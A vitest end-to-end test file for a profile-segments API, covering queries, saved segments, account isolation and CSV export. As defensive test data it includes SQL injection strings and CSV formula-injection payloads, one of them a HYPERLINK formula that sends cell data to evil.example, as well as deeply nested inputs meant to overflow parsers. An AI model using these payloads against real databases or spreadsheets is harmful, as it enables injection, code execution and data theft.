/** End to end through a real server on each store: API.md Segments (queries, saved segments, members, CSV export). */
import { Command } from "commander";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { addSegmentCommands } from "../cli/segment.js";
import { accounts } from "../test-support/accounts.js";
import { storesUnderTest } from "../test-support/postgres.js";
import { startTestServer, type TestServer } from "../test-support/server.js";

const stores = await storesUnderTest();

// biome-ignore lint/suspicious/noExplicitAny: response bodies of every shape
type AnyBody = any;

const NOW_S = Math.floor(Date.now() / 1000);
const DAY_S = 86_400;
/** A birth date `years` before this year, on a day far from today's. */
const YEAR = new Date().getUTCFullYear();
const born = (years: number, monthDay: string) => `${YEAR - years}-${monthDay}`;
const DOB = { ana: born(28, "03-01"), cy: born(30, "07-15"), sql: born(27, "05-05") };

describe.each(stores)("segments over HTTP on %s", (store) => {
  let s: TestServer;
  /** Identity → profile id. */
  const ids: Record<string, string> = {};

  async function query(where: unknown, extra: Record<string, unknown> = {}) {
    return s.api("POST", "/v1/segments/query", { where, ...extra });
  }

  /** The count of a query made with another account's key. */
  async function countAs(auth: Record<string, string>, where: unknown): Promise<number> {
    const q = await s.api("POST", "/v1/segments/query", { where }, auth);
    expect(q.status, JSON.stringify(q.body)).toBe(200);
    return q.body.count;
  }

  async function count(where: unknown): Promise<number> {
    const r = await query(where);
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    return r.body.count;
  }

  /** Every member id, following nextCursor with pages of `limit`. */
  async function allMembers(where: unknown, limit: number): Promise<string[]> {
    const out: string[] = [];
    let cursor: string | null = null;
    for (let guard = 0; guard < 50; guard++) {
      const r: { status: number; body: AnyBody } = await query(where, { limit, cursor });
      expect(r.status).toBe(200);
      out.push(...r.body.profiles.map((p: { id: string }) => p.id));
      cursor = r.body.nextCursor;
      if (cursor === null) return out;
    }
    throw new Error("no end");
  }

  beforeAll(async () => {
    s = await startTestServer({}, { store });
    const people = [
      { Identity: "u-ana", Email: "ana@x.io", Name: "Ana", City: "Paris", DOB: DOB.ana, Plan: "pro" },
      {
        Identity: "u-bob",
        Email: "bob@x.io",
        Name: 'Bob, "the" builder',
        City: "Paris",
        DOB: "1960-01-01",
        Plan: "free",
      },
      { Identity: "u-cy", Email: "cy@x.io", Name: "Cy\nTwo lines", City: "Lyon", DOB: DOB.cy, Plan: "pro" },
      { Identity: "u-sql", Name: "Robert'); DROP TABLE profiles;--", City: "Paris", DOB: DOB.sql },
    ];
    const r = await s.api("POST", "/v1/ingest", {
      records: people.map((properties, i) => ({ type: "login", deviceId: `dev-${i}`, properties })),
    });
    expect(r.body.status).toBe("success");
    for (const [i, p] of people.entries()) ids[p.Identity] = r.body.results[i].profileId;
    const charged = (deviceId: string, daysAgo: number, Amount: number) => ({
      type: "event",
      deviceId,
      name: "Charged",
      ts: NOW_S - daysAgo * DAY_S,
      properties: { Amount },
    });
    const events = await s.api("POST", "/v1/ingest", {
      records: [
        charged("dev-0", 1, 50),
        charged("dev-0", 3, 70),
        charged("dev-1", 2, 10),
        charged("dev-1", 4, 10),
        { type: "event", deviceId: "dev-1", name: "App Uninstalled", ts: NOW_S - DAY_S },
        charged("dev-2", 40, 100),
        charged("dev-2", 2, 100),
        charged("dev-3", 1, 5),
        charged("dev-3", 1.5, 5),
        // An anonymous device's purchases, then a login of that device as Ana: the device's profile becomes an
        // orphan of Ana's (SEMANTICS §3 case 2) and its events never count for her or anyone.
        charged("dev-anon", 1, 999),
        charged("dev-anon", 2, 999),
      ],
    });
    expect(events.body.status).toBe("success");
    const switched = await s.api("POST", "/v1/ingest", {
      records: [{ type: "login", deviceId: "dev-anon", properties: { Identity: "u-ana" } }],
    });
    expect(switched.body.results[0].outcome).toBe("switched");
  });

  afterAll(async () => {
    await s?.close();
  });

  it("counts and pages a query; the profiles are the profile views", async () => {
    const where = {
      all: [
        { property: "Age", op: "between", value: [25, 30] },
        { property: "City", op: "eq", value: "Paris" },
        { did: "Charged", count: { op: "gte", value: 2 }, withinLast: { days: 30 } },
        { didNot: "App Uninstalled" },
      ],
    };
    const r = await query(where);
    expect(r.status).toBe(200);
    // Ana and the SQL-named person are 25-30, in Paris, with two purchases this month; Bob is 65 and uninstalled.
    const expected = [ids["u-ana"], ids["u-sql"]].sort();
    expect(r.body.count).toBe(2);
    expect(r.body.profiles.map((p: { id: string }) => p.id)).toEqual(expected);
    expect(r.body.nextCursor).toBeNull();
    const single = await s.api("GET", `/v1/profiles/${expected[0]}`);
    expect(r.body.profiles[0]).toEqual(single.body);

    expect(await allMembers({ property: "City", op: "exists" }, 1)).toEqual(Object.values(ids).sort());
    expect(await allMembers({ property: "City", op: "exists" }, 3)).toEqual(Object.values(ids).sort());
  });

  it("never counts an orphan or its events", async () => {
    // Ana spent 120 of her own; the orphan's 1,998 would make 2,118.
    expect(await count({ did: "Charged", sum: { property: "Amount", op: "gte", value: 1000 } })).toBe(0);
    expect(await count({ did: "Charged", sum: { property: "Amount", op: "eq", value: 120 } })).toBe(1);
    expect(await count({ type: "anonymous" })).toBe(0);
    expect(await count({ not: { type: "customer" } })).toBe(0);
  });

  it("refuses malformed conditions with INVALID_SEGMENT and the JSON path of the fault", async () => {
    const cases: Array<[unknown, string]> = [
      [{ all: [{ property: "Plan", op: "equals", value: "x" }] }, "where.all[0].op"],
      [{ any: [{ property: "City", op: "eq", value: "Paris" }, { did: "" }] }, "where.any[1].did"],
      [{ not: { bucket: { from: 5, to: 1 } } }, "where.not.bucket.to"],
      [{ property: "City", op: "eq", value: 3 }, "where.value"],
      [{ property: "City", op: "eq" }, "where.value"],
      [{ did: "Charged", count: { op: "gte", value: -1 } }, "where.count.value"],
      [{ inSegment: "seg_missing" }, "where.inSegment"],
      [{ all: [{ type: "customer" }, { inSegment: "seg_missing" }] }, "where.all[1].inSegment"],
      [{ property: "City", op: "eq", value: "Par\u0000is" }, "where.value"],
      ["nope", "where"],
    ];
    for (const [where, field] of cases) {
      const r = await query(where);
      expect(r.status, JSON.stringify(where)).toBe(400);
      expect(r.body.error.code).toBe("INVALID_SEGMENT");
      expect(r.body.error.field, JSON.stringify(where)).toBe(field);
      expect(r.body.error.message).toEqual(expect.any(String));
    }
    expect((await s.api("POST", "/v1/segments/query", {})).body.error).toMatchObject({
      code: "INVALID_SEGMENT",
      field: "where",
    });
    for (const limit of [0, 1001, 2.5, "x"]) {
      const r = await query({ type: "customer" }, { limit });
      expect(r.status).toBe(400);
      expect(r.body.error).toMatchObject({ code: "INVALID_VALUE", field: "limit" });
    }
    expect((await query({ type: "customer" }, { cursor: "garbage" })).body.error).toMatchObject({
      code: "INVALID_VALUE",
      field: "cursor",
    });
  });

  it("refuses a condition value nested thousands of levels deep with INVALID_SEGMENT, not a stack overflow (500)", async () => {
    const deep = `${"[".repeat(5000)}1${"]".repeat(5000)}`;
    const cases: Array<[string, string, string]> = [
      ["/v1/segments/query", `{"where":{"property":"City","op":"eq","value":${deep}}}`, "where.value"],
      ["/v1/segments/query", `{"where":{"property":"City","op":"in","value":["Paris",${deep}]}}`, "where.value[1]"],
      [
        "/v1/segments/query",
        `{"where":{"did":"Charged","where":{"property":"Amount","op":"eq","value":${deep}}}}`,
        "where.where.value",
      ],
      ["/v1/segments", `{"name":"deep","where":{"property":"City","op":"eq","value":${deep}}}`, "where.value"],
    ];
    for (const [path, body, field] of cases) {
      const r = await s.api("POST", path, body);
      expect(r.status, field).toBe(400);
      expect(r.body.error.code).toBe("INVALID_SEGMENT");
      expect(r.body.error.field.startsWith(`${field}[0]`), r.body.error.field).toBe(true);
      expect(r.body.error.message).toContain("64 levels");
    }
  });

  it("answers startsWith with a value of a million characters (no match), not a stack overflow (500)", async () => {
    for (const value of ["x".repeat(200_000), `${"é".repeat(500_000)}😀`.repeat(2)]) {
      const r = await query({ property: "Name", op: "startsWith", value });
      expect(r.status, JSON.stringify(r.body).slice(0, 300)).toBe(200);
      expect(r.body.count).toBe(0);
    }
    expect(await count({ property: "Name", op: "startsWith", value: "An" })).toBeGreaterThan(0);
  });

  it("treats SQL-looking names and values as data", async () => {
    const hostile = ["x'); DROP TABLE profiles; --", 'Plan" OR 1=1 --', "a\\b", "$.props", "'", '"', "%", "_"];
    for (const property of hostile) {
      expect(await count({ property, op: "exists" })).toBe(0);
      expect(await count({ property, op: "notExists" })).toBe(4);
      expect(await count({ did: property })).toBe(0);
      expect(await count({ did: "Charged", where: [{ property, op: "exists" }] })).toBe(0);
      expect(await count({ property: "City", compartment: property, op: "exists" })).toBe(0);
      expect(await count({ property: "Name", op: "eq", value: property })).toBe(0);
      const names = ["Ana", 'Bob, "the" builder', "Cy\nTwo lines", "Robert'); DROP TABLE profiles;--"];
      expect(await count({ property: "Name", op: "contains", value: property })).toBe(
        names.filter((n) => n.includes(property)).length,
      );
    }
    expect(await count({ property: "Name", op: "eq", value: "Robert'); DROP TABLE profiles;--" })).toBe(1);
    expect(await count({ property: "Name", op: "startsWith", value: "Robert')" })).toBe(1);
    // LIKE wildcards mean nothing: only a literal "%" or "_" would match.
    expect(await count({ property: "Name", op: "contains", value: "%" })).toBe(0);
    expect(await count({ property: "Name", op: "startsWith", value: "_" })).toBe(0);
    // Case-sensitive, by code point.
    expect(await count({ property: "City", op: "eq", value: "paris" })).toBe(0);
    expect(await count({ property: "City", op: "startsWith", value: "Par" })).toBe(3);
    expect(await count({ property: "City", op: "exists" })).toBe(4);
  });

  it("saves, lists, reads, pages, exports and deletes segments; other accounts' ids are unknown", async () => {
    const paris = await s.api("POST", "/v1/segments", {
      name: "Paris",
      where: { property: "City", op: "eq", value: "Paris" },
    });
    expect(paris.status).toBe(201);
    expect(paris.body).toEqual({
      id: expect.any(String),
      name: "Paris",
      where: { property: "City", op: "eq", value: "Paris" },
      createdAt: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T/),
    });
    const buyers = await s.api("POST", "/v1/segments", {
      name: "Paris buyers",
      where: {
        all: [{ inSegment: paris.body.id }, { did: "Charged" }, { not: { property: "Plan", op: "eq", value: "free" } }],
      },
    });
    expect(buyers.status).toBe(201);

    const list = await s.api("GET", "/v1/segments?limit=1");
    expect(list.body.segments).toEqual([paris.body]);
    const next = await s.api("GET", `/v1/segments?limit=1&cursor=${list.body.nextCursor}`);
    expect(next.body.segments).toEqual([buyers.body]);
    expect(next.body.nextCursor).toBeNull();
    expect((await s.api("GET", `/v1/segments/${buyers.body.id}`)).body).toEqual(buyers.body);

    const members = await s.api("GET", `/v1/segments/${buyers.body.id}/profiles?limit=1`);
    expect(members.status).toBe(200);
    expect(members.body.count).toBe(2);
    expect(members.body.profiles).toHaveLength(1);
    const rest = await s.api(
      "GET",
      `/v1/segments/${buyers.body.id}/profiles?limit=1&cursor=${members.body.nextCursor}`,
    );
    expect([members.body.profiles[0].id, rest.body.profiles[0].id]).toEqual([ids["u-ana"], ids["u-sql"]].sort());
    expect(rest.body.nextCursor).toBeNull();

    // The saved segment is evaluated fresh: Ana moves to Lyon, and she is no longer a member.
    await s.api("PATCH", `/v1/profiles/${ids["u-ana"]}`, { City: "Lyon" });
    expect((await s.api("GET", `/v1/segments/${buyers.body.id}/profiles`)).body.count).toBe(1);
    await s.api("PATCH", `/v1/profiles/${ids["u-ana"]}`, { City: "Paris" });

    // In use → 409; the user first, then the used one.
    const inUse = await s.api("DELETE", `/v1/segments/${paris.body.id}`);
    expect(inUse.status).toBe(409);
    expect(inUse.body.error.code).toBe("SEGMENT_IN_USE");
    expect(inUse.body.error.message).toContain(buyers.body.id);

    // Another account sees none of it: 404 UNKNOWN_SEGMENT, and its conditions cannot name these segments.
    const other = await accounts(s);
    const auth = { authorization: `Bearer ${other.secretKey}` };
    for (const [method, suffix] of [
      ["GET", ""],
      ["DELETE", ""],
      ["GET", "/profiles"],
      ["GET", "/export.csv"],
    ] as const) {
      const r = await s.api(method, `/v1/segments/${paris.body.id}${suffix}`, undefined, auth);
      expect(r.status, `${method} ${suffix}`).toBe(404);
      expect(r.body.error.code).toBe("UNKNOWN_SEGMENT");
    }
    const foreign = await s.api("POST", "/v1/segments/query", { where: { inSegment: paris.body.id } }, auth);
    expect(foreign.status).toBe(400);
    expect(foreign.body.error).toMatchObject({ code: "INVALID_SEGMENT", field: "where.inSegment" });
    expect((await s.api("GET", "/v1/segments", undefined, auth)).body).toEqual({ segments: [], nextCursor: null });
    expect(
      (await s.api("POST", "/v1/segments/query", { where: { property: "City", op: "exists" } }, auth)).body.count,
    ).toBe(0);

    // CSV: id, type, the identity keys, then the registered properties alphabetically (identity keys once).
    const csv = await fetch(`${s.url}/v1/segments/${paris.body.id}/export.csv`, {
      headers: { authorization: `Bearer ${(await import("../test-support/server.js")).SECRET}` },
    });
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toContain("text/csv");
    const text = await csv.text();
    const lines = text.split("\r\n");
    expect(lines[0]).toBe("id,type,Identity,Email,City,DOB,Name,Plan");
    const rows = [
      `${ids["u-ana"]},customer,u-ana,ana@x.io,Paris,${DOB.ana},Ana,pro`,
      `${ids["u-bob"]},customer,u-bob,bob@x.io,Paris,1960-01-01,"Bob, ""the"" builder",free`,
      `${ids["u-sql"]},customer,u-sql,,Paris,${DOB.sql},Robert'); DROP TABLE profiles;--,`,
    ].sort();
    expect(lines.slice(1)).toEqual([...rows, ""]);

    expect((await s.api("DELETE", `/v1/segments/${buyers.body.id}`)).body).toEqual({ deleted: true });
    expect((await s.api("DELETE", `/v1/segments/${paris.body.id}`)).body).toEqual({ deleted: true });
    expect((await s.api("GET", `/v1/segments/${paris.body.id}`)).status).toBe(404);
    expect((await s.api("DELETE", `/v1/segments/${paris.body.id}`)).status).toBe(404);
    const gone = await query({ inSegment: paris.body.id });
    expect(gone.body.error).toMatchObject({ code: "INVALID_SEGMENT", field: "where.inSegment" });
  });

  it("exports the properties Portrait writes itself (Timezone from context, is_test_user) as registered columns", async () => {
    const other = await accounts(s);
    const auth = { authorization: `Bearer ${other.secretKey}` };
    const r = await s.api(
      "POST",
      "/v1/ingest",
      { records: [{ type: "event", deviceId: "tokyo", name: "Opened", context: { timezone: "Asia/Tokyo" } }] },
      auth,
    );
    const id = r.body.results[0].profileId;
    expect((await s.api("PUT", `/v1/profiles/${id}/test`, { test: true }, auth)).status).toBe(200);
    const saved = await s.api("POST", "/v1/segments", { name: "all", where: { type: "anonymous" } }, auth);
    const csv = await fetch(`${s.url}/v1/segments/${saved.body.id}/export.csv`, { headers: auth });
    expect((await csv.text()).split("\r\n").slice(0, 2)).toEqual([
      "id,type,Identity,Email,Timezone,is_test_user",
      `${id},anonymous,,,Asia/Tokyo,Yes`,
    ]);
  });

  it("exports text that starts like a spreadsheet formula with a leading quote, numbers as they are (audit F14)", async () => {
    const other = await accounts(s);
    const auth = { authorization: `Bearer ${other.secretKey}` };
    const r = await s.api(
      "POST",
      "/v1/ingest",
      {
        records: [
          {
            type: "profile",
            identity: { Identity: "=cmd|' /C calc'!A0" },
            properties: {
              A: '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
              B: "+cmd|' /C calc'!A0",
              C: "-2+3",
              D: "@SUM(1)",
              E: "\t=1+1",
              F: "\r=1+1",
              G: -5,
              H: "-5",
              I: "plain",
              Phone: "+33612345678",
            },
          },
        ],
      },
      auth,
    );
    expect(r.body.status, JSON.stringify(r.body)).toBe("success");
    const id = r.body.results[0].profileId;
    const saved = await s.api("POST", "/v1/segments", { name: "all", where: { type: "identified" } }, auth);
    const csv = await fetch(`${s.url}/v1/segments/${saved.body.id}/export.csv`, { headers: auth });
    expect((await csv.text()).split("\r\n")).toEqual([
      "id,type,Identity,Email,A,B,C,D,E,F,G,H,I,Phone",
      `${id},identified,'=cmd|' /C calc'!A0,,"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")",'+cmd|' /C calc'!A0,'-2+3,'@SUM(1),'\t=1+1,"'\r=1+1",-5,-5,plain,+33612345678`,
      "",
    ]);
  });

  it("exports the newest value of an identity key that keeps several, as the property shows it", async () => {
    const other = await accounts(s);
    const auth = { authorization: `Bearer ${other.secretKey}` };
    expect((await s.api("PATCH", "/v1/account/settings", { identityLimits: { Email: 3 } }, auth)).status).toBe(200);
    const send = (Email: string, ts: number) => ({
      type: "profile",
      identity: { Identity: "u-many" },
      ts,
      properties: { Email, City: "Oslo" },
    });
    const r = await s.api(
      "POST",
      "/v1/ingest",
      { records: [send("m1@x.io", NOW_S - 300), send("m2@x.io", NOW_S - 100), send("m3@x.io", NOW_S - 200)] },
      auth,
    );
    expect(r.body.status, JSON.stringify(r.body)).toBe("success");
    const id = r.body.results[0].profileId;
    const profile = (await s.api("GET", `/v1/profiles/${id}`, undefined, auth)).body;
    expect(profile.identities.Email).toHaveLength(3);
    expect(profile.properties.Email).toBe("m2@x.io");
    const saved = await s.api(
      "POST",
      "/v1/segments",
      { name: "Oslo", where: { property: "City", op: "exists" } },
      auth,
    );
    const csv = await fetch(`${s.url}/v1/segments/${saved.body.id}/export.csv`, { headers: auth });
    expect((await csv.text()).split("\r\n")).toEqual([
      "id,type,Identity,Email,City",
      `${id},identified,u-many,m2@x.io,Oslo`,
      "",
    ]);
  });

  it("evaluates large conditions, and refuses one too large to evaluate", async () => {
    const names = Array.from({ length: 999 }, (_, i) => `City ${i}`);
    expect(await count({ property: "City", op: "in", value: [...names, "Paris"] })).toBe(3);
    expect(await count({ property: "City", op: "notIn", value: names })).toBe(4);
    // 100 × 100 conditions: deep enough for the grammar, too many values for one statement.
    const wide = {
      any: Array.from({ length: 100 }, (_, i) => ({
        all: names.slice(0, 100).map((value) => ({ property: `P${i}`, op: "eq", value })),
      })),
    };
    const r = await query(wide);
    expect(r.status).toBe(400);
    expect(r.body.error.code).toBe("INVALID_SEGMENT");
    // 100 alternatives nest as a balanced tree, well inside the SQL parser's depth limit.
    expect(await count({ any: names.slice(0, 100).map((value) => ({ property: "City", op: "eq", value })) })).toBe(0);
  });

  it("orders a string property by code point (a date-looking value too) and is false on a multi-value", async () => {
    const other = await accounts(s);
    const auth = { authorization: `Bearer ${other.secretKey}` };
    const codes = ["B", "2025-01-01", "1999", "A", "a", "ｚ", "𝒫"];
    const r = await s.api(
      "POST",
      "/v1/ingest",
      {
        records: codes.map((Code, i) => ({
          type: "profile",
          identity: { Identity: `code-${i}` },
          properties: { Code, Tags: { $add: ["a", "b"] } },
        })),
      },
      auth,
    );
    expect(r.body.status, JSON.stringify(r.body)).toBe("success");
    const counted = (where: unknown) => countAs(auth, where);
    expect(await counted({ property: "Code", op: "gt", value: "A" })).toBe(4); // B, a, ｚ, 𝒫
    expect(await counted({ property: "Code", op: "gt", value: "2024-01-01" })).toBe(6); // all but 1999
    expect(await counted({ property: "Code", op: "lte", value: "B" })).toBe(4);
    expect(await counted({ property: "Code", op: "between", value: ["a", "ｚ"] })).toBe(2);
    for (const op of ["gt", "gte", "lt", "lte"]) {
      expect(await counted({ property: "Tags", op, value: "b" })).toBe(0);
    }
    expect(await counted({ not: { property: "Tags", op: "between", value: ["a", "z"] } })).toBe(7);
    // The one error left: a value of the wrong type for the key's registered type.
    const wrong = await s.api("POST", "/v1/segments/query", { where: { property: "Code", op: "gt", value: 5 } }, auth);
    expect(wrong.body.error).toMatchObject({ code: "INVALID_SEGMENT", field: "where.value" });
  });

  it("compares a $D_ date with dates stored as text (event properties, nested leaves) as instants", async () => {
    const other = await accounts(s);
    const auth = { authorization: `Bearer ${other.secretKey}` };
    const when = { $date: "2020-05-05T10:00:00Z" };
    const r = await s.api(
      "POST",
      "/v1/ingest",
      {
        records: [
          { type: "event", deviceId: "dated", name: "Dated", ts: NOW_S - 3600, properties: { When: when } },
          { type: "profile", deviceId: "dated", ts: NOW_S - 10, properties: { Nest: { since: when } } },
          { type: "event", deviceId: "stale", name: "Dated", ts: NOW_S - 3600, properties: { When: "not a date" } },
        ],
      },
      auth,
    );
    expect(r.body.status, JSON.stringify(r.body)).toBe("success");
    const counted = (where: unknown) => countAs(auth, where);
    const later = "$D_1600000000"; // 2020-09-13, after 2020-05-05
    const same = "$D_1588672800"; // 2020-05-05T10:00:00Z
    const event = (op: string, value: unknown) => ({ did: "Dated", where: [{ property: "When", op, value }] });
    const nested = (op: string, value: unknown) => ({ property: "Nest.since", op, value });
    for (const of of [event, nested]) {
      expect(await counted(of("lt", later))).toBe(1);
      expect(await counted(of("gt", later))).toBe(0);
      expect(await counted(of("eq", same))).toBe(1);
      expect(await counted(of("between", ["$D_1500000000", later]))).toBe(1);
      expect(await counted(of("before", later))).toBe(1);
    }
    // A rolling window of 0 days: from now on.
    expect(await counted({ did: "Dated", withinLast: { days: 0 } })).toBe(0);
    expect(await counted({ did: "Dated", withinLast: { days: 1 } })).toBe(2);
  });

  it("validates saved segments like queries", async () => {
    const bad = await s.api("POST", "/v1/segments", { name: "x", where: { property: "City", op: "gt", value: true } });
    expect(bad.status).toBe(400);
    expect(bad.body.error).toMatchObject({ code: "INVALID_SEGMENT", field: "where.value" });
    for (const name of ["", "   ", 5, "x".repeat(201)]) {
      const r = await s.api("POST", "/v1/segments", { name, where: { type: "customer" } });
      expect(r.status).toBe(400);
      expect(r.body.error).toMatchObject({ code: "INVALID_SEGMENT", field: "name" });
    }
    const missing = await s.api("POST", "/v1/segments", { name: "x" });
    expect(missing.body.error).toMatchObject({ code: "INVALID_SEGMENT", field: "where" });
  });

  it("counts from the CLI: portrait segment count --where", async () => {
    const program = new Command().exitOverride();
    addSegmentCommands(program, {
      withStoreOptions: (cmd) => cmd,
      withStore: (_opts, fn) => fn(s.server.store),
      accountOf: async (st, id) => (await st.getAccount(id ?? "default"))!,
    });
    const out = vi.spyOn(process.stdout, "write").mockImplementation(() => true);
    try {
      await program.parseAsync(["segment", "count", "--where", '{"property": "City", "op": "eq", "value": "Paris"}'], {
        from: "user",
      });
      await program.parseAsync(["segment", "count", "--json", "--where", '{"type": "customer"}'], { from: "user" });
      expect(out.mock.calls.map((c) => String(c[0]))).toEqual(["3\n", '{"count":4}\n']);
    } finally {
      out.mockRestore();
    }
  });
});
